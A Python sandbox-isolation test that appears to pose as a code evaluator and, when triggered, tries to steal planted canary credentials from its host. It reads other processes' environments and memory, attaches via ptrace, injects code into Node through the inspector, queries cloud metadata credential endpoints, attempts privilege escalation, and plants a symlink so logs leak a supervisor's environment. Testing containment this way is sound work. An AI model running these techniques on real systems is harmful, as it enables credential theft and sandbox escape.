"""An evaluator that looks for the key and the credentials of the job that runs it.

Prints one line for each attempt: which secrets it found by it, and what it met. It runs where evolved
code runs, with what evolved code has.
"""

import base64
import ctypes
import http.client
import json
import os
import re
import signal
import socket
import stat
import struct
import subprocess
import sys
import time
from pathlib import Path

# Written so that this file does not match itself.
SECRETS = {
    "key": re.compile(rb"CANARY-key-[0-9a-f]{16}"),
    "job credentials": re.compile(rb"versity-secre[t]"),
    "way to job credentials": re.compile(rb"/v2/credentials/[0-9a-f-]{36}"),
    "machine credentials": re.compile(rb"CANARY-role-[0-9a-f]{16}"),
    # In a process of this one's own: whoever does not find this cannot find the others either.
    "bait": re.compile(rb"CANARY-bait-[0-9a-f]{16}"),
}
WORK = "/tmp"
MOST_BYTES = 64 << 20
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long] * 4
libc.ptrace.restype = ctypes.c_long
libc.syscall.restype = ctypes.c_long

attempts = []


def attempt(function):
    attempts.append(function)
    return function


class Tally:
    """What an attempt read, and what kept it from reading more."""

    def __init__(self):
        self.found = set()
        self.opened = 0
        self.refused = {}

    def read(self, content):
        self.opened += 1
        self.found |= {name for name, secret in SECRETS.items() if secret.search(content)}

    def refuse(self, error):
        why = error.strerror if isinstance(error, OSError) and error.strerror else str(error)
        self.refused[why or type(error).__name__] = self.refused.get(why, 0) + 1

    def read_file(self, path, most=MOST_BYTES):
        try:
            with open(path, "rb", buffering=0) as file:
                self.read(file.read(most) or b"")
        except OSError as error:
            self.refuse(error)

    def require(self, call, *arguments):
        """A system call's result; what it failed with is noted."""
        result = call(*arguments)
        if result < 0:
            self.refuse(OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno())))
        return result


def processes():
    """All but this one."""
    return [pid for pid in map(int, filter(str.isdigit, os.listdir("/proc"))) if pid != os.getpid()]


def command(pid):
    return Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")


def supervisors():
    """Process 1, and the entrypoint where that is another one: they hold what is looked for."""
    return [pid for pid in processes() if pid == 1 or command(pid)[0].endswith(b"/node")]


def get(host, path, port=80, method="GET", headers={}):
    connection = http.client.HTTPConnection(host, port, timeout=3)
    try:
        connection.request(method, path, headers=headers)
        response = connection.getresponse()
        return response.status, response.read()
    finally:
        connection.close()


@attempt
def environment_of_this_process(tally):
    tally.read("\0".join(f"{name}={value}" for name, value in os.environ.items()).encode())
    tally.read_file("/proc/self/environ")


@attempt
def environment_of_every_process(tally):
    for pid in processes():
        tally.read_file(f"/proc/{pid}/environ")


@attempt
def environment_of_the_supervisors(tally):
    for pid in supervisors():
        tally.read_file(f"/proc/{pid}/environ")


@attempt
def all_that_proc_tells_of_the_supervisors(tally):
    """Of their threads too."""
    for pid in supervisors():
        for folder, _, names in os.walk(f"/proc/{pid}"):
            for name in names:
                path = os.path.join(folder, name)
                if stat.S_ISREG(os.lstat(path).st_mode):
                    tally.read_file(path)


@attempt
def command_line_of_every_process(tally):
    for pid in processes():
        tally.read_file(f"/proc/{pid}/cmdline")


def read_memory(tally, pid):
    regions = re.finditer(r"^([0-9a-f]+)-([0-9a-f]+) rw", Path(f"/proc/{pid}/maps").read_text(), re.M)
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for region in regions:
            start, end = (int(place, 16) for place in region.groups())
            try:
                memory.seek(start)
                tally.read(memory.read(min(end - start, MOST_BYTES)))
            except (OSError, ValueError, OverflowError):
                continue


@attempt
def memory_of_every_process(tally):
    for pid in processes():
        try:
            read_memory(tally, pid)
        except OSError as error:
            tally.refuse(error)


@attempt
def memory_by_process_vm_readv(tally):
    """At the place where the stack of a 64-bit process ends, since maps are closed."""
    for pid in supervisors():
        buffer = ctypes.create_string_buffer(4096)
        ours = struct.pack("QQ", ctypes.addressof(buffer), 4096)
        theirs = struct.pack("QQ", 0x400000, 4096)
        tally.require(libc.process_vm_readv, pid, ours, 1, theirs, 1, 0)


@attempt
def trace_of_the_supervisors(tally):
    PTRACE_ATTACH, PTRACE_DETACH = 16, 17
    for pid in supervisors():
        if tally.require(libc.ptrace, PTRACE_ATTACH, pid, 0, 0) == 0:
            os.waitpid(pid, 0x40000000)
            read_memory(tally, pid)
            libc.ptrace(PTRACE_DETACH, pid, 0, 0)


@attempt
def files_that_supervisors_have_open(tally):
    PIDFD_GETFD = 438
    for pid in supervisors():
        for folder in ("fd", "map_files", "cwd", "root"):
            try:
                os.listdir(f"/proc/{pid}/{folder}")
                tally.opened += 1
            except OSError as error:
                tally.refuse(error)
        handle = os.pidfd_open(pid)
        for number in range(32):
            tally.opened += tally.require(libc.syscall, PIDFD_GETFD, handle, number, 0) >= 0
        os.close(handle)


@attempt
def descriptors_that_were_inherited(tally):
    for name in sorted(os.listdir("/proc/self/fd"), key=int):
        target = os.readlink(f"/proc/self/fd/{name}") if os.path.lexists(f"/proc/self/fd/{name}") else ""
        if int(name) > 2 and target.startswith("pipe:"):
            # Events and commands of the runner are pipes; a worker has none but its output.
            tally.opened += 1


@attempt
def inspector(tally):
    for pid in supervisors():
        os.kill(pid, signal.SIGUSR1)
    for _ in range(20):
        time.sleep(0.05)
        try:
            _, targets = get("127.0.0.1", "/json", 9229)
        except OSError as error:
            refusal = error
            continue
        tally.read(evaluate_in(json.loads(targets)[0]["id"], "JSON.stringify(process.env)"))
        return
    tally.refuse(refusal)


def evaluate_in(target, expression):
    """The inspector's reply over a WebSocket: one frame there, one frame back."""
    with socket.create_connection(("127.0.0.1", 9229), timeout=5) as connection:
        key = base64.b64encode(os.urandom(16)).decode()
        connection.sendall(
            f"GET /{target} HTTP/1.1\r\nHost: 127.0.0.1:9229\r\nUpgrade: websocket\r\n"
            f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode()
        )
        connection.recv(4096)
        parameters = {"expression": expression}
        message = json.dumps({"id": 1, "method": "Runtime.evaluate", "params": parameters}).encode()
        frame = struct.pack("!BBH", 0x81, 0x80 | 126, len(message)) + bytes(4) + message
        connection.sendall(frame)
        return connection.recv(1 << 20)


@attempt
def file_of_the_supervisors(tally):
    tally.read_file("/usr/local/bin/node")


@attempt
def credentials_endpoint(tally):
    ways = [found.group() for found in map(SECRETS["way to job credentials"].search, known()) if found]
    for path in [*map(bytes.decode, ways), "/", "/v2/credentials", "/v2/credentials/", "/v3/", "/v4/"]:
        try:
            status, body = get("169.254.170.2", path)
            tally.read(body) if status == 200 else tally.refuse(OSError(0, f"status {status}"))
        except OSError as error:
            tally.refuse(error)


def known():
    """All environments that can be read."""
    for pid in ["self", *processes()]:
        try:
            yield Path(f"/proc/{pid}/environ").read_bytes()
        except OSError:
            continue


@attempt
def instance_metadata(tally):
    base = "/latest/meta-data/iam/security-credentials/"
    host = "169.254.169.254"
    try:
        time_to_live = {"X-aws-ec2-metadata-token-ttl-seconds": "60"}
        _, token = get(host, "/latest/api/token", method="PUT", headers=time_to_live)
        headers = {"X-aws-ec2-metadata-token": token.decode()}
        _, role = get(host, base, headers=headers)
        tally.read(get(host, base + role.decode(), headers=headers)[1])
    except OSError as error:
        tally.refuse(error)


@attempt
def other_jobs_objects(tally):
    port = int(os.environ["STORE_PORT"])
    for path in ("/", f"/{os.environ['STORE_BUCKET']}?list-type=2", os.environ["OTHER_OBJECT"]):
        status, body = get("127.0.0.1", path, port)
        tally.read(body) if status == 200 else tally.refuse(OSError(0, f"status {status}"))


@attempt
def every_file_that_can_be_read(tally):
    for path in files_of_the_image():
        try:
            if os.path.getsize(path) < 4 << 20:
                tally.read_file(path)
        except OSError as error:
            tally.refuse(error)


def files_of_the_image():
    for folder, folders, names in os.walk("/"):
        left_out = ("/proc", "/sys", "/dev", WORK)
        folders[:] = [name for name in folders if os.path.join(folder, name) not in left_out]
        for name in names:
            path = os.path.join(folder, name)
            if stat.S_ISREG(os.lstat(path).st_mode):
                yield path


@attempt
def files_outside_its_folders(tally):
    places = ["/opt/entrypoint/dist/main.js", "/usr/local/bin/node", "/etc/passwd", "/opt/venv/x", "/x", "/run/x"]
    for path in [*places, "/var/tmp/x", "/proc/sys/kernel/core_pattern", "/sys/kernel/uevent_helper"]:
        try:
            with open(path, "ab") as file:
                file.write(b"x")
            tally.opened += 1
        except OSError as error:
            tally.refuse(error)


@attempt
def files_that_give_another_user(tally):
    gives = stat.S_ISUID | stat.S_ISGID
    tally.opened += sum(1 for path in files_of_the_image() if os.lstat(path).st_mode & gives)


@attempt
def another_user_by_a_file(tally):
    """A shell of root's that gives its user, mounted into the image by the test."""
    shown = subprocess.run(["/usr/local/bin/root-id", "-u"], capture_output=True, text=True)
    tally.opened += shown.stdout.strip() == "0"


@attempt
def privileges(tally):
    status = dict(re.findall(r"^(\w+):\s*(.*)$", Path("/proc/self/status").read_text(), re.M))
    tally.opened += status["NoNewPrivs"] != "1"
    tally.opened += int(status["CapEff"], 16) != 0
    for change, target in ((os.setuid, 0), (os.setgid, 0), (os.chroot, WORK)):
        try:
            change(target)
            tally.opened += 1
        except OSError as error:
            tally.refuse(error)


@attempt
def root_in_a_user_namespace(tally):
    """Root over its own namespace, and still nothing to the processes outside of it."""
    pid = os.fork()
    if pid == 0:
        CLONE_NEWUSER = 0x10000000
        inner = Tally()
        if libc.unshare(CLONE_NEWUSER) == 0:
            for other in supervisors():
                inner.read_file(f"/proc/{other}/environ")
        os._exit(1 if inner.found else 0)
    tally.opened += os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])


@attempt
def gateway_without_the_token(tally):
    LISTENING = "0A"
    sockets = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    ports = {int(place.split(":")[1], 16) for _, place, _, state, *_ in sockets if state == LISTENING}
    for port in ports - {int(os.environ["STORE_PORT"]), 80}:
        try:
            status, body = get("127.0.0.1", "/v1/models", port)
            tally.read(body) if status == 200 else tally.refuse(OSError(0, f"status {status}"))
        except (OSError, http.client.HTTPException) as error:
            tally.refuse(error)


@attempt
def a_link_where_logs_are_taken_from(tally):
    """The entrypoint reads it, with its own rights, and stores it with the job's logs."""
    logs = Path(WORK, "openevolve/output/logs")
    for number, pid in enumerate(supervisors()):
        link = logs / f"link-{number}.log"
        os.symlink(f"/proc/{pid}/environ", link)


def main():
    bait = {"BAIT": f"CANARY-bait-{os.urandom(8).hex()}"}
    with subprocess.Popen(["/bin/sleep", "600"], env=bait) as own:
        try_all(os.environ.get("ATTEMPTS", "").split(","))
        own.kill()


def try_all(wanted):
    for function in attempts:
        if wanted != [""] and function.__name__ not in wanted:
            continue
        tally = Tally()
        try:
            function(tally)
        except Exception as error:
            tally.refuse(error)
        report = {
            "attempt": function.__name__,
            "found": sorted(tally.found),
            "opened": tally.opened,
            "refused": tally.refused,
        }
        print("ATTEMPT", json.dumps(report), flush=True)


def evaluate(path):
    if "x = 1" in Path(path).read_text():
        main()
    return {"combined_score": 1.0}
